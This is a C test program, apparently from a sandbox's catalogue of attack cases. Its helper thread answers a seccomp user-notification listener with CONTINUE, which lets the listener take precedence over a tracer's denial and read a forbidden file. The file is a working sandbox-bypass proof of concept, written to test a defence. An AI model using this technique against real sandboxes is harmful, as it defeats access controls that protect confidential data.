// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the target's own listener does not come before the tracer
 * (catalogue D7).
 *
 *	opener			helper thread		tracer
 *	seccomp(NEW_LISTENER)
 *	openat(DENIED): the filters answer TRACE and USER_NOTIF, the latter wins
 *				answers CONTINUE	(hears nothing)
 *	kernel opens the denied file
 *
 * The helper starts before the filter and is not under it. Winning prints DATA
 * and the content of the denied file.
 */
#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

static _Atomic int listener = -1;
static _Atomic bool running;

static void *helper(void *unused)
{
	struct seccomp_notif notification = { 0 };
	struct seccomp_notif_resp response = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };

	(void)unused;
	atomic_store(&running, true);
	while (atomic_load(&listener) < 0)
		spin(16);
	if (ioctl(atomic_load(&listener), SECCOMP_IOCTL_NOTIF_RECV, &notification))
		broken("no notification: %s", strerror(errno));
	response.id = notification.id;
	if (ioctl(atomic_load(&listener), SECCOMP_IOCTL_NOTIF_SEND, &response))
		broken("no answer: %s", strerror(errno));
	return NULL;
}

static int install_listener(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, raw_open_number(), 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { .len = 4, .filter = code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return (int)syscall(SYS_seccomp, JUNK(SECCOMP_SET_MODE_FILTER),
			    JUNK(SECCOMP_FILTER_FLAG_NEW_LISTENER), &program);
}

static void attack(struct run *run)
{
	pthread_t thread;
	int fd;

	warm_up(O_RDONLY); /* afterwards the helper would have to answer */
	if (pthread_create(&thread, NULL, helper, NULL))
		broken("no helper thread");
	wait_until(&running);
	run->attempts = 1;
	fd = install_listener();
	if (fd < 0) {
		run->error = errno;
		return;
	}
	atomic_store(&listener, fd);
	run_opened(run, raw_open(run->denied, O_RDONLY));
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_read(&run, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		attack(&run);
		break;
	}
	run_end(&run);
}
